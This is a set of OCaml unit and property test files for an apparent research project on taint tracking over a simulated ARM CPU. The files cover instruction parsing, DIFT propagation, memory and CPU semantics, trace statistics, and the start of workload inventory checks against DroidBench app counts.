  let cpu = Pift_machine.Cpu.create ~sink:(fun _ -> ()) m in
  Pift_machine.Memory.write_u16 m 0x1000 0xCAFE;
  Pift_machine.Cpu.set cpu Reg.R0 0x2000;
  Pift_machine.Cpu.set cpu Reg.R1 0x1000;
  Pift_machine.Cpu.set cpu Reg.R5 1;
  Pift_machine.Cpu.run cpu frag;
  checki "copied" 0xCAFE (Pift_machine.Memory.read_u16 m 0x2000)

(* Round trip: any printable instruction parses back to itself. *)
let insn_gen =
  QCheck2.Gen.(
    let reg = map Reg.of_index (int_range 0 14) in
    let data_reg = map Reg.of_index (int_range 0 12) in
    let low_reg = map Reg.of_index (int_range 0 11) in
    let shift =
      let* n = int_range 0 8 in
      oneofl [ Insn.Lsl n; Insn.Lsr n; Insn.Asr n ]
    in
    let operand =
      oneof
        [
          map (fun n -> Insn.Imm n) (int_range (-64) 1000);
          map (fun r -> Insn.Reg r) reg;
          (let* r = reg and* s = shift in
           return (Insn.Shifted (r, s)));
        ]
    in
    let amode =
      oneof
        [
          (let* rn = reg and* op = operand in
           return (Insn.Offset (rn, op)));
          (let* rn = reg and* op = operand in
           return (Insn.Pre (rn, op)));
          (let* rn = reg and* op = operand in
           return (Insn.Post (rn, op)));
        ]
    in
    let width = oneofl [ Insn.Byte; Insn.Half; Insn.Word; Insn.Dword ] in
    let alu =
      oneofl
        [
          Insn.Add; Insn.Sub; Insn.Rsb; Insn.Mul; Insn.And; Insn.Orr;
          Insn.Eor; Insn.Lsl_op; Insn.Lsr_op; Insn.Asr_op;
        ]
    in
    let cond =
      oneofl
        Cond.[ Always; Eq; Ne; Lt; Le; Gt; Ge; Lo; Hs; Hi; Ls ]
    in
    oneof
      [
        (let* w = width and* r = low_reg and* am = amode in
         return (Insn.Ldr (w, r, am)));
        (let* w = width and* r = low_reg and* am = amode in
         return (Insn.Str (w, r, am)));
        (let* r = data_reg and* op = operand in
         return (Insn.Mov (r, op)));
        (let* r = data_reg and* op = operand in
         return (Insn.Mvn (r, op)));
        (let* op = alu and* flags = bool and* d = data_reg and* s = data_reg
         and* o = operand in
         return (Insn.Alu (op, flags, d, s, o)));
        (let* d = data_reg and* s = data_reg and* lsb = int_range 0 24
         and* w = int_range 1 8 in
         return (Insn.Ubfx (d, s, lsb, w)));
        (let* d = data_reg and* n = data_reg and* m = data_reg in
         return (Insn.Udiv (d, n, m)));
        (let* r = data_reg and* op = operand in
         return (Insn.Cmp (r, op)));
        (let* c = cond and* t = int_range 0 99 in
         return (Insn.B (c, t)));
        map (fun t -> Insn.Bl t) (int_range 0 99);
        map (fun r -> Insn.Bx r) reg;
        (let* rn = reg
         and* regs = list_size (int_range 1 4) data_reg in
         return (Insn.Ldm (rn, List.sort_uniq compare regs)));
        (let* rn = reg
         and* regs = list_size (int_range 1 4) data_reg in
         return (Insn.Stm (rn, List.sort_uniq compare regs)));
        return Insn.Nop;
      ])

let prop_parse_roundtrip =
  QCheck2.Test.make ~name:"parse (pp insn) = insn" ~count:1000 insn_gen
    (fun i ->
      match Parse.insn (Insn.to_string i) with
      | Ok j -> j = i
      | Error _ -> false)

let () =
  Alcotest.run "pift_arm"
    [
      ("reg", [ Alcotest.test_case "registers" `Quick test_reg ]);
      ("cond", [ Alcotest.test_case "condition codes" `Quick test_cond ]);
      ( "insn",
        [
          Alcotest.test_case "metadata" `Quick test_insn_meta;
          Alcotest.test_case "disassembly" `Quick test_insn_pp;
        ] );
      ( "asm",
        [
          Alcotest.test_case "labels" `Quick test_asm_labels;
          Alcotest.test_case "errors" `Quick test_asm_errors;
          Alcotest.test_case "calls" `Quick test_asm_call;
        ] );
      ( "parse",
        [
          Alcotest.test_case "basics" `Quick test_parse_basic;
          Alcotest.test_case "errors" `Quick test_parse_errors;
          Alcotest.test_case "fragments" `Quick test_parse_fragment;
          QCheck_alcotest.to_alcotest prop_parse_roundtrip;
        ] );
    ]
