(* Unit and property tests for the full register-level DIFT baseline. *)

module Range = Pift_util.Range
module Full_dift = Pift_baseline.Full_dift
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
module Memory = Pift_machine.Memory
module Cpu = Pift_machine.Cpu
module Asm = Pift_arm.Asm

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let r a b = Range.make a b
let imm n = Insn.Imm n
let rg x = Insn.Reg x

(* Run a fragment on a real CPU with the DIFT attached as the event sink,
   so events carry consistent instructions and resolved ranges. *)
let run ?(taint = []) insns =
  let dift = Full_dift.create () in
  List.iter (fun range -> Full_dift.taint_source dift ~pid:1 range) taint;
  let m = Memory.create () in
  let cpu = Cpu.create ~sink:(Full_dift.observe dift) m in
  let a = Asm.create () in
  Asm.emit_all a insns;
  Asm.ret a;
  Cpu.run cpu (Asm.assemble a);
  dift

let test_load_taints_register () =
  let dift =
    run
      ~taint:[ r 0x1000 0x1003 ]
      [
        Insn.Mov (Reg.R0, imm 0x1000);
        Insn.Ldr (Insn.Word, Reg.R1, Insn.Offset (Reg.R0, imm 0));
        Insn.Ldr (Insn.Word, Reg.R2, Insn.Offset (Reg.R0, imm 0x100));
      ]
  in
  checkb "loaded reg tainted" true (Full_dift.reg_tainted dift ~pid:1 Reg.R1);
  checkb "clean load clean reg" false
    (Full_dift.reg_tainted dift ~pid:1 Reg.R2);
  checkb "address reg clean" false (Full_dift.reg_tainted dift ~pid:1 Reg.R0)

let test_store_propagates_and_untaints () =
  let dift =
    run
      ~taint:[ r 0x1000 0x1003 ]
      [
        Insn.Mov (Reg.R0, imm 0x1000);
        Insn.Ldr (Insn.Word, Reg.R1, Insn.Offset (Reg.R0, imm 0));
        (* copy tainted word to 0x2000 *)
        Insn.Mov (Reg.R2, imm 0x2000);
        Insn.Str (Insn.Word, Reg.R1, Insn.Offset (Reg.R2, imm 0));
        (* overwrite the original with a constant: exact untaint *)
        Insn.Mov (Reg.R3, imm 0);
        Insn.Str (Insn.Word, Reg.R3, Insn.Offset (Reg.R0, imm 0));
      ]
  in
  checkb "copy tainted" true
    (Full_dift.is_tainted dift ~pid:1 (r 0x2000 0x2003));
  checkb "original untainted by clean store" false
    (Full_dift.is_tainted dift ~pid:1 (r 0x1000 0x1003))

let test_alu_combines () =
  let dift =
    run
      ~taint:[ r 0x1000 0x1003 ]
      [
        Insn.Mov (Reg.R0, imm 0x1000);
        Insn.Ldr (Insn.Word, Reg.R1, Insn.Offset (Reg.R0, imm 0));
        Insn.Mov (Reg.R2, imm 7);
        (* tainted op clean -> tainted *)
        Insn.Alu (Insn.Add, false, Reg.R3, Reg.R1, rg Reg.R2);
        (* clean op clean -> clean *)
        Insn.Alu (Insn.Add, false, Reg.R9, Reg.R2, rg Reg.R2);
        (* mov of tainted stays tainted; mov imm cleans *)
        Insn.Mov (Reg.R10, rg Reg.R1);
        Insn.Mov (Reg.R1, imm 0);
        (* derived ops *)
        Insn.Ubfx (Reg.R11, Reg.R3, 0, 8);
        Insn.Udiv (Reg.R12, Reg.R3, Reg.R2);
      ]
  in
  checkb "add taints" true (Full_dift.reg_tainted dift ~pid:1 Reg.R3);
  checkb "clean add clean" false (Full_dift.reg_tainted dift ~pid:1 Reg.R9);
  checkb "mov keeps taint" true (Full_dift.reg_tainted dift ~pid:1 Reg.R10);
  checkb "mov imm cleans" false (Full_dift.reg_tainted dift ~pid:1 Reg.R1);
  checkb "ubfx derives" true (Full_dift.reg_tainted dift ~pid:1 Reg.R11);
  checkb "udiv derives" true (Full_dift.reg_tainted dift ~pid:1 Reg.R12)

let test_dword_precision () =
  (* taint only the low half of a dword load *)
  let dift =
    run
      ~taint:[ r 0x1000 0x1003 ]
      [
        Insn.Mov (Reg.R0, imm 0x1000);
        Insn.Ldr (Insn.Dword, Reg.R2, Insn.Offset (Reg.R0, imm 0));
      ]
  in
  checkb "low half tainted" true (Full_dift.reg_tainted dift ~pid:1 Reg.R2);
  checkb "high half clean" false (Full_dift.reg_tainted dift ~pid:1 Reg.R3)

let test_ldm_stm_slots () =
  let dift =
    run
      ~taint:[ r 0x1004 0x1007 ]
      [
        Insn.Mov (Reg.R0, imm 0x1000);
        Insn.Ldm (Reg.R0, [ Reg.R1; Reg.R2 ]);
        Insn.Mov (Reg.SP, imm 0x9000);
        Insn.Stm (Reg.SP, [ Reg.R1; Reg.R2 ]);
      ]
  in
  checkb "first slot clean" false (Full_dift.reg_tainted dift ~pid:1 Reg.R1);
  checkb "second slot tainted" true (Full_dift.reg_tainted dift ~pid:1 Reg.R2);
  (* push wrote r1 at sp-8, r2 at sp-4 *)
  checkb "pushed clean slot" false
    (Full_dift.is_tainted dift ~pid:1 (r (0x9000 - 8) (0x9000 - 5)));
  checkb "pushed tainted slot" true
    (Full_dift.is_tainted dift ~pid:1 (r (0x9000 - 4) (0x9000 - 1)))

let test_propagation_count () =
  let dift =
    run [ Insn.Mov (Reg.R0, imm 1); Insn.Mov (Reg.R1, imm 2); Insn.Nop ]
  in
  (* two movs propagate; nop and the final bx don't *)
  checki "propagations" 2 (Full_dift.propagations dift)

(* Property: for a chain of register copies ending in a store, the stored
   location is tainted iff the chain started at the tainted load. *)
let prop_copy_chain =
  QCheck2.Test.make ~name:"copy chains preserve taint end-to-end" ~count:200
    QCheck2.Gen.(pair bool (int_range 1 10))
    (fun (from_tainted, hops) ->
      let src = if from_tainted then 0x1000 else 0x1100 in
      let regs = [| Reg.R1; Reg.R2; Reg.R3; Reg.R9; Reg.R10 |] in
      let chain =
        List.init hops (fun i ->
            Insn.Mov (regs.((i + 1) mod 5), rg regs.(i mod 5)))
      in
      let insns =
        [
          Insn.Mov (Reg.R0, imm src);
          Insn.Ldr (Insn.Word, regs.(0), Insn.Offset (Reg.R0, imm 0));
        ]
        @ chain
        @ [
            Insn.Mov (Reg.R11, imm 0x3000);
            Insn.Str
              (Insn.Word, regs.(hops mod 5), Insn.Offset (Reg.R11, imm 0));
          ]
      in
      let dift = run ~taint:[ r 0x1000 0x1003 ] insns in
      Full_dift.is_tainted dift ~pid:1 (r 0x3000 0x3003) = from_tainted)

let () =
  Alcotest.run "pift_baseline"
    [
      ( "full-dift",
        [
          Alcotest.test_case "load taints register" `Quick
            test_load_taints_register;
          Alcotest.test_case "store propagates & untaints" `Quick
            test_store_propagates_and_untaints;
          Alcotest.test_case "alu combining" `Quick test_alu_combines;
          Alcotest.test_case "dword precision" `Quick test_dword_precision;
          Alcotest.test_case "ldm/stm slots" `Quick test_ldm_stm_slots;
          Alcotest.test_case "propagation count" `Quick
            test_propagation_count;
        ] );
      ("properties", [ QCheck_alcotest.to_alcotest prop_copy_chain ]);
    ]
