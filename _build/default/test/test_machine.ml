(* Unit tests for Pift_machine: memory, CPU semantics, event emission. *)

module Memory = Pift_machine.Memory
module Cpu = Pift_machine.Cpu
module Layout = Pift_machine.Layout
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
module Cond = Pift_arm.Cond
module Asm = Pift_arm.Asm
module Event = Pift_trace.Event
module Range = Pift_util.Range

let checki = Alcotest.(check int)

(* --- Memory ------------------------------------------------------------- *)

let test_memory_widths () =
  let m = Memory.create () in
  checki "zero default" 0 (Memory.read_u32 m 0x1000);
  Memory.write_u8 m 0x1000 0xAB;
  checki "u8" 0xAB (Memory.read_u8 m 0x1000);
  Memory.write_u16 m 0x2000 0xBEEF;
  checki "u16" 0xBEEF (Memory.read_u16 m 0x2000);
  checki "u16 lo byte (little endian)" 0xEF (Memory.read_u8 m 0x2000);
  checki "u16 hi byte" 0xBE (Memory.read_u8 m 0x2001);
  Memory.write_u32 m 0x3000 0xDEADBEEF;
  checki "u32" 0xDEADBEEF (Memory.read_u32 m 0x3000);
  Memory.write_u64 m 0x4000 0x0123456789ABCDEFL;
  Alcotest.(check int64) "u64" 0x0123456789ABCDEFL (Memory.read_u64 m 0x4000);
  checki "u64 low word" 0x89ABCDEF (Memory.read_u32 m 0x4000);
  Memory.write_u8 m 0x5000 0x1FF;
  checki "u8 truncation" 0xFF (Memory.read_u8 m 0x5000)

let test_memory_pages () =
  let m = Memory.create () in
  (* straddle a 4096-byte page boundary *)
  Memory.write_u32 m 4094 0x11223344;
  checki "straddle read" 0x11223344 (Memory.read_u32 m 4094);
  checki "pages touched" 2 (Memory.pages_touched m);
  let b = Memory.read_bytes m 4094 4 in
  checki "read_bytes" 0x44 (Char.code (Bytes.get b 0));
  Memory.write_bytes m 8000 (Bytes.of_string "hi");
  checki "write_bytes" (Char.code 'h') (Memory.read_u8 m 8000);
  match Memory.read_u8 m (-1) with
  | _ -> Alcotest.fail "expected Invalid_argument on a negative address"
  | exception Invalid_argument _ -> ()

(* --- Cpu ------------------------------------------------------------------ *)

let run_frag ?(setup = fun _ -> ()) insns =
  let events = ref [] in
  let m = Memory.create () in
  let cpu = Cpu.create ~sink:(fun e -> events := e :: !events) m in
  setup cpu;
  let a = Asm.create () in
  Asm.emit_all a insns;
  Asm.ret a;
  Cpu.run cpu (Asm.assemble a);
  (cpu, List.rev !events)

let imm n = Insn.Imm n
let rg r = Insn.Reg r

let test_alu () =
  let cpu, _ =
    run_frag
      [
        Insn.Mov (Reg.R0, imm 7);
        Insn.Mov (Reg.R1, imm 3);
        Insn.Alu (Insn.Add, false, Reg.R2, Reg.R0, rg Reg.R1);
        Insn.Alu (Insn.Sub, false, Reg.R3, Reg.R0, rg Reg.R1);
        Insn.Alu (Insn.Mul, false, Reg.R9, Reg.R0, rg Reg.R1);
        Insn.Alu (Insn.Rsb, false, Reg.R10, Reg.R1, imm 10);
        Insn.Alu (Insn.Eor, false, Reg.R11, Reg.R0, rg Reg.R1);
        Insn.Alu (Insn.Lsl_op, false, Reg.R12, Reg.R0, imm 4);
      ]
  in
  checki "add" 10 (Cpu.get cpu Reg.R2);
  checki "sub" 4 (Cpu.get cpu Reg.R3);
  checki "mul" 21 (Cpu.get cpu Reg.R9);
  checki "rsb" 7 (Cpu.get cpu Reg.R10);
  checki "eor" 4 (Cpu.get cpu Reg.R11);
  checki "lsl" 112 (Cpu.get cpu Reg.R12)

let test_masking () =
  let cpu, _ =
    run_frag
      [
        Insn.Mov (Reg.R0, imm 0xFFFF_FFFF);
        Insn.Alu (Insn.Add, false, Reg.R1, Reg.R0, imm 1);
        Insn.Mov (Reg.R2, imm 0);
        Insn.Alu (Insn.Sub, false, Reg.R2, Reg.R2, imm 1);
        Insn.Mvn (Reg.R3, imm 0);
        Insn.Alu (Insn.Asr_op, false, Reg.R9, Reg.R0, imm 4);
        Insn.Alu (Insn.Lsr_op, false, Reg.R10, Reg.R0, imm 28);
      ]
  in
  checki "add wraps" 0 (Cpu.get cpu Reg.R1);
  checki "sub wraps" 0xFFFF_FFFF (Cpu.get cpu Reg.R2);
  checki "mvn" 0xFFFF_FFFF (Cpu.get cpu Reg.R3);
  checki "asr sign-extends" 0xFFFF_FFFF (Cpu.get cpu Reg.R9);
  checki "lsr zero-extends" 0xF (Cpu.get cpu Reg.R10)

let test_bitfield_div () =
  let cpu, _ =
    run_frag
      [
        Insn.Mov (Reg.R0, imm 0xABCD);
        Insn.Ubfx (Reg.R1, Reg.R0, 8, 4);
        Insn.Mov (Reg.R2, imm 100);
        Insn.Mov (Reg.R3, imm 7);
        Insn.Udiv (Reg.R9, Reg.R2, Reg.R3);
        Insn.Mov (Reg.R10, imm 0);
        Insn.Udiv (Reg.R11, Reg.R2, Reg.R10);
      ]
  in
  checki "ubfx" 0xB (Cpu.get cpu Reg.R1);
  checki "udiv" 14 (Cpu.get cpu Reg.R9);
  checki "udiv by zero" 0 (Cpu.get cpu Reg.R11)

let test_loads_stores () =
  let cpu, events =
    run_frag
      [
        Insn.Mov (Reg.R0, imm 0x1000);
        Insn.Mov (Reg.R1, imm 0x1234_5678);
        Insn.Str (Insn.Word, Reg.R1, Insn.Offset (Reg.R0, imm 0));
        Insn.Ldr (Insn.Byte, Reg.R2, Insn.Offset (Reg.R0, imm 0));
        Insn.Ldr (Insn.Half, Reg.R3, Insn.Offset (Reg.R0, imm 2));
        Insn.Ldr (Insn.Word, Reg.R9, Insn.Offset (Reg.R0, imm 0));
      ]
  in
  checki "byte load" 0x78 (Cpu.get cpu Reg.R2);
  checki "half load" 0x1234 (Cpu.get cpu Reg.R3);
  checki "word load" 0x1234_5678 (Cpu.get cpu Reg.R9);
  let loads = List.filter Event.is_load events in
  let stores = List.filter Event.is_store events in
  checki "load events" 3 (List.length loads);
  checki "store events" 1 (List.length stores);
  match Event.range (List.hd stores) with
  | Some r ->
      checki "store range lo" 0x1000 (Range.lo r);
      checki "store range hi" 0x1003 (Range.hi r)
  | None -> Alcotest.fail "store range missing"

let test_addressing_modes () =
  let cpu, _ =
    run_frag
      [
        Insn.Mov (Reg.R0, imm 0x2000);
        Insn.Mov (Reg.R1, imm 0xAA);
        (* pre-index with writeback *)
        Insn.Str (Insn.Byte, Reg.R1, Insn.Pre (Reg.R0, imm 4));
        (* post-index *)
        Insn.Str (Insn.Byte, Reg.R1, Insn.Post (Reg.R0, imm 8));
        (* register offset with shift *)
        Insn.Mov (Reg.R2, imm 2);
        Insn.Ldr (Insn.Byte, Reg.R3, Insn.Offset (Reg.R0, Insn.Shifted (Reg.R2, Insn.Lsl 1)));
      ]
  in
  (* pre: r0 = 0x2004 then store; post: store at 0x2004 then r0 = 0x200c *)
  checki "writeback" 0x200C (Cpu.get cpu Reg.R0);
  let m = Cpu.memory cpu in
  checki "pre-index store" 0xAA (Memory.read_u8 m 0x2004);
  (* the shifted load read 0x200c + 4 = 0x2010 (zero) *)
  checki "shifted load" 0 (Cpu.get cpu Reg.R3)

let test_dword_multi () =
  let cpu, events =
    run_frag
      [
        Insn.Mov (Reg.R0, imm 0x3000);
        Insn.Mov (Reg.R2, imm 0x1111);
        Insn.Mov (Reg.R3, imm 0x2222);
        Insn.Str (Insn.Dword, Reg.R2, Insn.Offset (Reg.R0, imm 0));
        Insn.Ldr (Insn.Dword, Reg.R9, Insn.Offset (Reg.R0, imm 0));
        (* push via stm *)
        Insn.Mov (Reg.SP, imm 0x8000);
        Insn.Stm (Reg.SP, [ Reg.R2; Reg.R3 ]);
      ]
  in
  ignore events;
  checki "dword lo" 0x1111 (Cpu.get cpu Reg.R9);
  checki "dword hi" 0x2222 (Cpu.get cpu Reg.R10);
  checki "stm writeback" (0x8000 - 8) (Cpu.get cpu Reg.SP);
  let m = Cpu.memory cpu in
  checki "stm first" 0x1111 (Memory.read_u32 m (0x8000 - 8));
  checki "stm second" 0x2222 (Memory.read_u32 m (0x8000 - 4))

let test_ldm_roundtrip () =
  let cpu, events =
    run_frag
      [
        Insn.Mov (Reg.SP, imm 0x8000);
        Insn.Mov (Reg.R0, imm 5);
        Insn.Mov (Reg.R1, imm 6);
        Insn.Stm (Reg.SP, [ Reg.R0; Reg.R1 ]);
        Insn.Mov (Reg.R0, imm 0);
        Insn.Mov (Reg.R1, imm 0);
        Insn.Ldm (Reg.SP, [ Reg.R0; Reg.R1 ]);
      ]
  in
  checki "pop r0" 5 (Cpu.get cpu Reg.R0);
  checki "pop r1" 6 (Cpu.get cpu Reg.R1);
  checki "sp restored" 0x8000 (Cpu.get cpu Reg.SP);
  let multi =
    List.filter
      (fun e ->
        match Event.range e with
        | Some r -> Range.length r = 8
        | None -> false)
      events
  in
  checki "8-byte transfer events" 2 (List.length multi)

let test_branching () =
  (* a loop summing 1..5 *)
  let a = Asm.create () in
  Asm.emit a (Insn.Mov (Reg.R0, imm 0));
  Asm.emit a (Insn.Mov (Reg.R1, imm 1));
  Asm.label a "loop";
  Asm.emit a (Insn.Cmp (Reg.R1, imm 5));
  Asm.branch a Cond.Gt "end";
  Asm.emit a (Insn.Alu (Insn.Add, false, Reg.R0, Reg.R0, rg Reg.R1));
  Asm.emit a (Insn.Alu (Insn.Add, false, Reg.R1, Reg.R1, imm 1));
  Asm.branch a Cond.Always "loop";
  Asm.label a "end";
  Asm.ret a;
  let m = Memory.create () in
  let cpu = Cpu.create ~sink:(fun _ -> ()) m in
  Cpu.run cpu (Asm.assemble a);
  checki "loop sum" 15 (Cpu.get cpu Reg.R0)

let test_flags_from_alu () =
  let cpu, _ =
    run_frag
      [
        Insn.Mov (Reg.R0, imm 1);
        Insn.Alu (Insn.Sub, true, Reg.R0, Reg.R0, imm 1);
        (* subs set flags against zero: result 0 -> Eq holds *)
        Insn.Mov (Reg.R1, imm 0);
        Insn.B (Cond.Ne, 5);
        Insn.Mov (Reg.R1, imm 42);
      ]
  in
  checki "flag-taken path" 42 (Cpu.get cpu Reg.R1)

let test_counters_and_pids () =
  let m = Memory.create () in
  let cpu = Cpu.create ~pid:7 ~sink:(fun _ -> ()) m in
  let frag =
    let a = Asm.create () in
    Asm.emit a Insn.Nop;
    Asm.emit a Insn.Nop;
    Asm.ret a;
    Asm.assemble a
  in
  Cpu.run cpu frag;
  checki "counter pid 7" 3 (Cpu.counter cpu);
  Cpu.set_pid cpu 8;
  checki "fresh counter pid 8" 0 (Cpu.counter cpu);
  Cpu.run cpu frag;
  checki "counter pid 8" 3 (Cpu.counter cpu);
  Cpu.set_pid cpu 7;
  checki "pid 7 counter preserved" 3 (Cpu.counter cpu);
  checki "global seq" 6 (Cpu.global_seq cpu)

let test_fuel () =
  let a = Asm.create () in
  Asm.label a "spin";
  Asm.branch a Cond.Always "spin";
  let frag = Asm.assemble a in
  let m = Memory.create () in
  let cpu = Cpu.create ~sink:(fun _ -> ()) m in
  Alcotest.check_raises "fuel" Cpu.Fuel_exhausted (fun () ->
      Cpu.run ~fuel:1000 cpu frag)

let () =
  Alcotest.run "pift_machine"
    [
      ( "memory",
        [
          Alcotest.test_case "widths" `Quick test_memory_widths;
          Alcotest.test_case "pages" `Quick test_memory_pages;
        ] );
      ( "cpu",
        [
          Alcotest.test_case "alu" `Quick test_alu;
          Alcotest.test_case "32-bit masking" `Quick test_masking;
          Alcotest.test_case "ubfx & udiv" `Quick test_bitfield_div;
          Alcotest.test_case "loads & stores" `Quick test_loads_stores;
          Alcotest.test_case "addressing modes" `Quick test_addressing_modes;
          Alcotest.test_case "dword & stm" `Quick test_dword_multi;
          Alcotest.test_case "ldm roundtrip" `Quick test_ldm_roundtrip;
          Alcotest.test_case "branching" `Quick test_branching;
          Alcotest.test_case "alu flags" `Quick test_flags_from_alu;
          Alcotest.test_case "counters & pids" `Quick test_counters_and_pids;
          Alcotest.test_case "fuel" `Quick test_fuel;
        ] );
    ]
