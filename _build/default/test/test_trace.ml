(* Tests for Pift_trace: events, trace storage, and the §2 statistics
   (validated against naive recomputations on hand-built streams). *)

module Range = Pift_util.Range
module Event = Pift_trace.Event
module Trace = Pift_trace.Trace
module Stats = Pift_trace.Stats
module Histogram = Pift_util.Histogram
module Insn = Pift_arm.Insn

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)

let ev ?(pid = 1) k access =
  { Event.seq = k; k; pid; insn = Insn.Nop; access }

let load ?pid k lo len = ev ?pid k (Event.Load (Range.of_len lo len))
let store ?pid k lo len = ev ?pid k (Event.Store (Range.of_len lo len))
let other ?pid k = ev ?pid k Event.Other

let of_list events =
  let t = Trace.create () in
  List.iter (Trace.add t) events;
  t

let test_event_meta () =
  checkb "load" true (Event.is_load (load 1 0 4));
  checkb "store" true (Event.is_store (store 1 0 4));
  checkb "other neither" true
    ((not (Event.is_load (other 1))) && not (Event.is_store (other 1)));
  (match Event.range (load 1 16 4) with
  | Some r -> checki "range lo" 16 (Range.lo r)
  | None -> Alcotest.fail "range expected");
  checkb "other has no range" true (Event.range (other 1) = None)

let test_trace_storage () =
  let t = of_list [ load 1 0 4; other 2; store 3 8 2; load 4 0 4 ] in
  checki "length" 4 (Trace.length t);
  checki "loads" 2 (Trace.loads t);
  checki "stores" 1 (Trace.stores t);
  checki "get" 3 (Trace.get t 2).Event.k;
  (try
     ignore (Trace.get t 4);
     Alcotest.fail "out of bounds accepted"
   with Invalid_argument _ -> ());
  let seen = ref 0 in
  Trace.iter (fun _ -> incr seen) t;
  checki "iter visits all" 4 !seen;
  let a = ref 0 and b = ref 0 in
  Trace.replay t [ (fun _ -> incr a); (fun _ -> incr b) ];
  checki "replay consumer 1" 4 !a;
  checki "replay consumer 2" 4 !b;
  (* growth beyond the initial capacity *)
  let big = Trace.create () in
  for i = 1 to 5000 do
    Trace.add big (other i)
  done;
  checki "grows" 5000 (Trace.length big)

let test_pids () =
  let t = of_list [ load ~pid:3 1 0 4; load ~pid:1 2 0 4; other ~pid:3 3 ] in
  checkb "pids sorted" true (Trace.pids t = [ 1; 3 ])

let test_load_store_distance () =
  (* L@1 .. S@4 (d=3), S@6 (d=5), L@7, S@8 (d=1) *)
  let t =
    of_list
      [
        load 1 0 4; other 2; other 3; store 4 8 4; other 5; store 6 8 4;
        load 7 0 4; store 8 8 4;
      ]
  in
  let h = Stats.load_store_distance t in
  checki "n" 3 (Histogram.total h);
  checki "d3" 1 (Histogram.count h 3);
  checki "d5" 1 (Histogram.count h 5);
  checki "d1" 1 (Histogram.count h 1);
  (* stores before any load are skipped *)
  let t2 = of_list [ store 1 0 4; load 2 0 4 ] in
  checki "orphan store skipped" 0 (Histogram.total (Stats.load_store_distance t2))

let test_stores_between_loads () =
  let t =
    of_list
      [ load 1 0 4; store 2 8 4; store 3 8 4; load 4 0 4; load 5 0 4 ]
  in
  let h = Stats.stores_between_loads t in
  checki "pairs" 2 (Histogram.total h);
  checki "two stores once" 1 (Histogram.count h 2);
  checki "zero stores once" 1 (Histogram.count h 0)

let test_load_load_distance () =
  let t = of_list [ load 1 0 4; other 2; load 3 0 4; load 4 0 4 ] in
  let h = Stats.load_load_distance t in
  checki "pairs" 2 (Histogram.total h);
  checki "d2" 1 (Histogram.count h 2);
  checki "d1" 1 (Histogram.count h 1)

let test_stores_in_window () =
  (* L@1 with stores at k=2,3,12; window 5 -> 2 stores; window 11 -> 3 *)
  let t =
    of_list
      [ load 1 0 4; store 2 8 4; store 3 8 4; store 12 8 4; load 13 0 4 ]
  in
  let h5 = Stats.stores_in_window ~ni:5 t in
  checki "first load window 5" 1 (Histogram.count h5 2);
  let h11 = Stats.stores_in_window ~ni:11 t in
  checki "first load window 11" 1 (Histogram.count h11 3);
  (* the second load has no stores after it *)
  checki "empty window" 1 (Histogram.count h5 0);
  Alcotest.check_raises "ni must be positive"
    (Invalid_argument "Stats.stores_in_window: non-positive ni") (fun () ->
      ignore (Stats.stores_in_window ~ni:0 t))

let test_kth_store_distance () =
  let t =
    of_list [ load 1 0 4; store 3 8 4; store 5 8 4; store 9 8 4 ]
  in
  (match Stats.kth_store_distance ~ni:10 ~kth:1 t with
  | Some d -> Alcotest.(check (float 1e-9)) "1st" 2.0 d
  | None -> Alcotest.fail "expected distance");
  (match Stats.kth_store_distance ~ni:10 ~kth:3 t with
  | Some d -> Alcotest.(check (float 1e-9)) "3rd" 8.0 d
  | None -> Alcotest.fail "expected distance");
  (* 3rd store outside a window of 4 *)
  checkb "outside window" true
    (Stats.kth_store_distance ~ni:4 ~kth:3 t = None)

let test_per_pid_isolation () =
  (* pid 2's store must not pair with pid 1's load *)
  let t = of_list [ load ~pid:1 1 0 4; store ~pid:2 1 8 4 ] in
  checki "no cross-pid pairing" 0
    (Histogram.total (Stats.load_store_distance t))

(* Property: load_store_distance against a naive recomputation on random
   single-pid streams. *)
let prop_distance_naive =
  let gen =
    QCheck2.Gen.(
      list_size (int_range 1 80)
        (let* kind = int_range 0 2 in
         return kind))
  in
  QCheck2.Test.make ~name:"load-store distance matches naive recompute"
    ~count:300 gen (fun kinds ->
      let events =
        List.mapi
          (fun i kind ->
            let k = i + 1 in
            match kind with
            | 0 -> load k 0 4
            | 1 -> store k 8 4
            | _ -> other k)
          kinds
      in
      let t = of_list events in
      let h = Stats.load_store_distance t in
      (* naive *)
      let naive = Hashtbl.create 16 in
      let last = ref None in
      List.iter
        (fun e ->
          match e.Event.access with
          | Event.Load _ -> last := Some e.Event.k
          | Event.Store _ -> (
              match !last with
              | Some kl ->
                  let d = e.Event.k - kl in
                  Hashtbl.replace naive d
                    (1 + Option.value ~default:0 (Hashtbl.find_opt naive d))
              | None -> ())
          | Event.Other -> ())
        events;
      Hashtbl.fold (fun d n ok -> ok && Histogram.count h d = n) naive true
      && Histogram.total h = Hashtbl.fold (fun _ n acc -> acc + n) naive 0)

let () =
  Alcotest.run "pift_trace"
    [
      ( "events & storage",
        [
          Alcotest.test_case "event metadata" `Quick test_event_meta;
          Alcotest.test_case "trace storage" `Quick test_trace_storage;
          Alcotest.test_case "pids" `Quick test_pids;
        ] );
      ( "statistics",
        [
          Alcotest.test_case "load-store distance" `Quick
            test_load_store_distance;
          Alcotest.test_case "stores between loads" `Quick
            test_stores_between_loads;
          Alcotest.test_case "load-load distance" `Quick
            test_load_load_distance;
          Alcotest.test_case "stores in window" `Quick test_stores_in_window;
          Alcotest.test_case "k-th store distance" `Quick
            test_kth_store_distance;
          Alcotest.test_case "per-pid isolation" `Quick
            test_per_pid_isolation;
        ] );
      ( "properties",
        [ QCheck_alcotest.to_alcotest prop_distance_naive ] );
    ]
