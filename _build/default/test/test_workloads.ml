(* Tests for the workload suites: inventory counts, ground-truth labels
   (validated against the full-DIFT oracle), and the synthetic corpora. *)

module App = Pift_workloads.App
module Droidbench = Pift_workloads.Droidbench
module Malware = Pift_workloads.Malware
module Corpus = Pift_workloads.Corpus
module Dex_stats = Pift_dalvik.Dex_stats
module Recorded = Pift_eval.Recorded

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)

let test_inventory () =
  checki "57 apps" 57 (List.length Droidbench.all);
  checki "41 leaky" 41 (List.length Droidbench.leaky);
  checki "16 benign" 16 (List.length Droidbench.benign);
  checki "48 in the Fig.11 subset" 48 (List.length Droidbench.subset48);
  checki "subset leaky" 32
    (List.length
